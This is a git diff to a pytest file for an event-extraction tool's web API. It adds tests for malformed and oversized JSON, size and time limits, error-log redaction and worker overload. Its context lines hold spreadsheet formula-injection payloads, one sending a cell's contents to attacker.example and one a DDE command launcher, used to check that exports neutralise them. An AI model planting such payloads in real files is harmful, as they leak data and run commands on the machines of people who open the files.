@@ -13,7 +13,7 @@ import pytest
 from click.testing import CliRunner
 
 from eventwire.cli import main
-from eventwire.web.app import build_datasette
+from eventwire.web.app import TOKEN_ENV, build_datasette
 
 FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"details")'
 AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -79,3 +79,103 @@ def test_events_export_neutralises_formula_cells(poisoned_db: Path, fmt: str) ->
     _assert_no_formula(cells)
     # csv: the doc column; acled: actor1 and source.
     assert ("'" + PLUS_FORMULA if fmt == "csv" else "'" + FORMULA) in cells
+
+
+# The API: hostile JSON, limits, a worker that does not hold up the server ----------------------------------
+
+TOKEN = "s3cret-token"
+AUTH = {"Authorization": f"Bearer {TOKEN}"}
+
+
+def _post(ds: Any, path: str, **kwargs: Any) -> Any:
+    return asyncio.run(ds.client.post(path, **kwargs))
+
+
+@pytest.fixture
+def api_server(served_db: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
+    monkeypatch.setenv(TOKEN_ENV, TOKEN)
+    return build_datasette(served_db, token=True, max_chars=2000)
+
+
+@pytest.mark.parametrize(
+    ("body", "reason"),
+    [
+        (b"[" * 5000, "nested too deeply"),
+        (b'{"text": ' + b"[" * 100_000, "nested too deeply"),
+        (b'{"text": "a", "n": ' + b"9" * 5000 + b"}", "number is too long"),
+        (b'{"text": "\xff\xfe"}', "not UTF-8"),
+        (b'{"text": "a",', "body is not JSON"),
+    ],
+)
+@pytest.mark.parametrize("endpoint", ["/-/eventwire/extract", "/-/eventwire/ingest"])
+def test_hostile_json_gets_a_json_400(api_server: Any, endpoint: str, body: bytes, reason: str) -> None:
+    response = _post(api_server, endpoint, content=body, headers=AUTH)
+    assert response.status_code == 400
+    assert response.headers["content-type"].startswith("application/json")
+    assert response.json()["ok"] is False and reason in response.json()["error"]
+
+
+@pytest.mark.parametrize("endpoint", ["/-/eventwire/extract", "/-/eventwire/ingest"])
+def test_text_over_max_chars_is_refused_before_any_work(api_server: Any, endpoint: str) -> None:
+    response = _post(api_server, endpoint, json={"text": "Police arrested protesters. " * 100}, headers=AUTH)
+    assert response.status_code == 413
+    assert "2000 characters" in response.json()["error"] and "--max-chars" in response.json()["error"]
+
+
+@pytest.mark.parametrize("path", ["/{db}/events?_sort=nonexistent", "/{db}/events.json?_sort_desc=nope"])
+def test_sorting_by_a_missing_column_is_a_400(served_db: Path, path: str) -> None:
+    response = _get(build_datasette(served_db), path.format(db=served_db.stem))
+    assert response.status_code == 400
+    assert "Cannot sort table by" in response.text
+
+
+def test_error_log_is_one_line_without_request_data(served_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    secret = "body-or-parameter-secret-1234"
+    _get(build_datasette(served_db), f"/{served_db.stem}/events.json?_sort={secret}&_x={secret}2")
+    logged = capsys.readouterr()
+    lines = (logged.out + logged.err).splitlines()
+    assert lines == [
+        f"eventwire serve: 400 GET /{served_db.stem}/events.json: DatasetteError: Cannot sort table by {secret}"
+    ]
+
+
+def test_busy_worker_answers_503_at_once() -> None:
+    from eventwire.parallel import ExtractorSpec
+    from eventwire.web.api import MAX_PENDING, ApiError, _Pool
+
+    pool = _Pool(ExtractorSpec())
+    pool.pending = MAX_PENDING
+    with pytest.raises(ApiError) as refused:
+        asyncio.run(pool.run(len, "x"))
+    assert refused.value.status == 503 and pool.workers is None
+
+
+def test_time_limit_applies_and_other_requests_are_served_meanwhile(
+    served_db: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    from eventwire.web import api
+
+    monkeypatch.setenv(TOKEN_ENV, TOKEN)
+    ds = build_datasette(served_db, token=True, time_limit=0.5)
+    text = "Police fired tear gas at protesters in Lagos on Monday, witnesses said. " * 400  # ~29,000 chars
+
+    async def scenario() -> tuple[Any, list[float], float]:
+        loop = asyncio.get_running_loop()
+        started = loop.time()
+        post = asyncio.create_task(ds.client.post("/-/eventwire/extract", json={"text": text}, headers=AUTH))
+        answered: list[float] = []
+        while not post.done():
+            page = await ds.client.get(f"/{served_db.stem}/events.json?_size=5")
+            assert page.status_code == 200
+            answered.append(loop.time() - started)
+            await asyncio.sleep(0.2)
+        return await post, answered, loop.time() - started
+
+    try:
+        response, answered, took = asyncio.run(scenario())
+    finally:
+        api.shutdown()
+    assert response.status_code == 422, response.text
+    assert response.json()["error"] == "timed out after 0.5 s (eventwire serve --time-limit)"
+    # Pages kept coming while the worker loaded its model and worked: none waited for it.
+    assert len(answered) >= 3 and answered[-1] < took
